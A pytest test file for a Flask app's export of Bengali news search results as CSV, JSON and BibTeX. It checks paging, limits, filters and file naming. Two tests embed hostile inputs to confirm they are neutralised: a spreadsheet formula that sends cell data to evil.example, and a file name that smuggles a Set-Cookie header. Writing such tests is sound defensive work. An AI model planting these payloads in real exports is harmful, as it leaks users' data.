"""Results as files: all of them up to the limit, in three formats, and nothing in them that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest
from flask.testing import FlaskClient

from search.query.notes import Note
from search.results.page import ResultPage, Snippet
from web.app import create_app
from web.citation import bibtex_entry
from web.config import WebConfig

if TYPE_CHECKING:
    from tests.conftest import MakeEngine
    from tests.web.conftest import FakeEngine

FORMATS = ("csv", "json", "bib")


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture
def paged(engine: FakeEngine, monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Lets the engine find 250 articles, a hundred on a page; which pages it was asked for."""
    asked: list[int] = []
    hit = engine.page.hits[0]

    def answer(query: str, *, page: int, size: int, **_: object) -> ResultPage:
        asked.append(page)
        numbers = range((page - 1) * size, min(page * size, 250))
        hits = tuple(replace(hit, article_id=f"a{number}") for number in numbers)
        return replace(engine.page, text=query, total=250, hits=hits)

    monkeypatch.setattr(engine, "search", answer)
    return asked


def test_csv_has_a_line_an_article(client: FlaskClient) -> None:
    answer = client.get("/export.csv?q=পুতিন")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.data.startswith(b"\xef\xbb\xbfid,url,title,source,section,byline,published,score,snippet\r\n")
    assert read_csv(answer.data)[1:] == [
        [
            "putin-1",
            "https://news.example/putin-1",
            "রাশিয়া-উ.কোরিয়া প্রতিরক্ষা সমঝোতা চুক্তি সই",
            "কালের কণ্ঠ",
            "আন্তর্জাতিক",
            "অনলাইন ডেস্ক",
            "2024-06-20T13:24:00+06:00",
            "7.25",
            "রাশিয়ার প্রেসিডেন্ট ভ্লাদিমির পুতিন চুক্তি সই করেছেন।",
        ],
        [
            "https://news.example/বন্যা?day=1&x=%2F",
            "",
            "সিলেটে বন্যা পরিস্থিতির উন্নতি",
            "bdnews24.com",
            "",
            "",
            "2024-06-19T20:30:00+00:00",
            "1.5",
            "",
        ],
    ]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_cell_is_a_formula(client: FlaskClient, engine: FakeEngine, sign: str) -> None:
    formula = f'{sign}HYPERLINK("https://evil.example/?"&A1)'
    hit = replace(engine.page.hits[0], title=formula, source=formula, snippets=(Snippet(formula, ()),))
    engine.page = replace(engine.page, hits=(hit,))
    line = read_csv(client.get("/export.csv").data)[1]
    assert [line[2], line[3], line[8]] == [f"'{formula}"] * 3


def test_quotes_and_line_ends_stay_in_their_cell(client: FlaskClient, engine: FakeEngine) -> None:
    hit = replace(engine.page.hits[0], title='a "b", c\nd')
    engine.page = replace(engine.page, hits=(hit,))
    answer = client.get("/export.csv")
    assert '"a ""b"", c\nd"' in answer.text
    assert read_csv(answer.data)[1][2] == 'a "b", c\nd'


def test_json_says_what_was_asked_and_how_much_there_is(client: FlaskClient) -> None:
    exported = client.get("/export.json?q=পুতিন").get_json()
    articles = exported.pop("articles")
    notes = exported["query"].pop("notes")
    assert exported == {
        "query": {"text": "পুতিন", "interpreted": "পুতিন", "corrected_from": None},
        "total": 96,
        "total_is_exact": True,
        "exported": 2,
    }
    assert [note["code"] for note in notes] == ["lone-quote"]
    assert list(articles[0]) == ["id", "url", "title", "source", "section", "byline", "published", "score", "snippet"]
    assert [article["id"] for article in articles] == ["putin-1", "https://news.example/বন্যা?day=1&x=%2F"]


def test_bibtex_has_an_entry_an_article(client: FlaskClient, engine: FakeEngine) -> None:
    answer = client.get("/export.bib?q=পুতিন")
    assert answer.mimetype == "application/x-bibtex"
    entries = answer.text.split("\n\n")
    with client.application.test_request_context():
        first = bibtex_entry(engine.articles["putin-1"].article, "http://localhost/article/putin-1")
    assert entries[0] == first.strip()
    assert len(entries) == 2
    assert "http://localhost/article?id=" in entries[1]


def test_article_that_has_gone_has_no_entry(client: FlaskClient, engine: FakeEngine) -> None:
    engine.articles.clear()
    answer = client.get("/export.bib")
    assert (answer.status_code, answer.text) == (200, "")


@pytest.mark.parametrize("name", FORMATS)
def test_all_pages_are_exported(client: FlaskClient, paged: list[int], name: str) -> None:
    answer = client.get(f"/export.{name}?q=k&page=7&size=10")
    assert paged == [1, 2, 3]
    assert (answer.headers["X-Total-Count"], answer.headers["X-Exported-Count"]) == ("250", "250")


def test_export_ends_at_the_limit_and_says_so(engine: FakeEngine, paged: list[int]) -> None:
    client = create_app(engine, WebConfig(export_limit=150)).test_client()
    answer = client.get("/export.csv?q=k")
    assert [line[0] for line in read_csv(answer.data)[1:]] == [f"a{number}" for number in range(150)]
    assert paged == [1, 2]
    assert (answer.headers["X-Total-Count"], answer.headers["X-Exported-Count"]) == ("250", "150")
    exported = client.get("/export.json?q=k").get_json()
    assert (exported["total"], exported["exported"], len(exported["articles"])) == (250, 150, 150)


@pytest.mark.parametrize("name", FORMATS)
def test_every_article_is_exported_by_itself(client: FlaskClient, engine: FakeEngine, name: str) -> None:
    client.get(f"/export.{name}?q=k&grouped=on")
    assert engine.asked[0]["grouped"] is False


def test_filters_and_order_are_those_of_the_page(client: FlaskClient, engine: FakeEngine) -> None:
    client.get("/export.csv?q=k&from=2024&source=s&section=t&year=2024&month=2024-06&sort=oldest&roman=off")
    asked = engine.asked[0]
    expected = {"query": "k", "from_": "2024", "source": ("s",), "section": ("t",), "year": ("2024",), "sort": "oldest"}
    assert {name: asked[name] for name in expected} == expected


def test_loosened_query_exports_what_the_page_shows_with_its_note(client: FlaskClient, engine: FakeEngine) -> None:
    engine.page = replace(engine.page, notes=(Note("corrected", "পুতিন", 0, 5),), corrected_from="পুতুন")
    query = client.get("/export.json?q=পুতুন").get_json()["query"]
    assert (query["corrected_from"], query["notes"][0]["code"]) == ("পুতুন", "corrected")


@pytest.mark.parametrize(
    ("query", "name"),
    [
        pytest.param("", "khobor.csv", id="no-query"),
        pytest.param("পুতিন কিম", "khobor-পুতিন-কিম.csv", id="bengali"),
        pytest.param('../"; x=\r\nSet-Cookie: a', "khobor-x-Set-Cookie-a.csv", id="hostile"),
        pytest.param("ক" * 300, f"khobor-{'ক' * 60}.csv", id="long"),
    ],
)
def test_file_is_named_after_the_query(client: FlaskClient, query: str, name: str) -> None:
    answer = client.get("/export.csv", query_string={"q": query})
    assert (
        answer.headers["Content-Disposition"] == f"attachment; filename=\"khobor.csv\"; filename*=UTF-8''{quote(name)}"
    )


@pytest.mark.parametrize("name", FORMATS)
def test_mistake_is_told_to_the_program(client: FlaskClient, name: str) -> None:
    answer = client.get(f"/export.{name}?q=a&q=b")
    assert (answer.status_code, answer.mimetype) == (400, "application/problem+json")


def test_real_search_is_exported_whole(make_engine: MakeEngine) -> None:
    records = ({"title": f"নির্বাচন {number}", "published": "2024-06-01"} for number in range(130))
    client = create_app(
        make_engine(*({"id": f"a-{n}", **record} for n, record in enumerate(records))), WebConfig()
    ).test_client()
    exported = client.get("/export.json?q=নির্বাচন").get_json()
    assert exported["exported"] == exported["total"] == 130
    keys = re.findall(r"^@\w+\{([^,]+),", client.get("/export.bib?q=নির্বাচন").text, re.MULTILINE)
    assert len(set(keys)) == 130
